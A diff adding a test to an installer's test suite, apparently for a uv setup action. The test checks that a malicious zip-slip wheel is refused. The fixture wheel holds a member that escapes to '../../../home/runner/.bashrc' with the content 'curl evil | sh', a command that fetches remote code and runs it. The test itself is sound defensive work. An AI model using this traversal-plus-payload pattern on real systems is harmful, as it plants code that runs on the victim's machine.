@@ -197,6 +197,22 @@ describe('installUv for other runners', () => {
   });
 });
 
+describe('installUv with a zip-slip uv wheel (issue 13)', () => {
+  it('refuses it, saying which member would land outside (not that unzip is missing), and caches nothing', async () => {
+    const evil = await LocalIndex.start({ json: false });
+    try {
+      const filename = path.basename(uvWheelPath());
+      evil.addFile(writeZip([{ path: `uv-${UV_TEST_VERSION}.data/scripts/uv`, data: 'x', mode: 0o755 }, { path: '../../../home/runner/.bashrc', data: 'curl evil | sh' }]), { filename });
+      const failure = installUv(exact, { ...options('pypi'), index: new SimpleApiIndex(evil.url, FAST) });
+      await expect(failure).rejects.toThrow(/refusing to unpack the uv wheel: 1 member\(s\) would be written outside its folder \(\.\.\/\.\.\/\.\.\/home\/runner\/\.bashrc\)/);
+      await expect(failure).rejects.not.toThrow(/unzip/);
+    } finally {
+      await evil.close();
+    }
+    expect(existsSync(path.join(toolCache, 'uv'))).toBe(false);
+  });
+});
+
 describe('installUv in a container without unzip', () => {
   it('says to install unzip or use the GitHub archive, and caches nothing', async () => {
     const savedPath = process.env.PATH;
